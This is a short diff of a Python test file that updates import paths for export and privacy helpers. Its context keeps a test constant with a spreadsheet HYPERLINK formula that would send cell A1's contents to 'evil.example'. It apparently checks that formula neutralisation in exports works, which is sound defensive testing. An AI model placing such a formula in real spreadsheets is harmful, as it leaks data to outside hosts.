@@ -9,9 +9,9 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from lib.answers import answers_table
-from lib.export import neutralise_formulas, table_bytes, write_table
-from lib.privacy import mask_series, mask_text, small
+from lib.present.answers import answers_table
+from lib.present.export import neutralise_formulas, table_bytes, write_table
+from lib.core.privacy import mask_series, mask_text, small
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")'
 
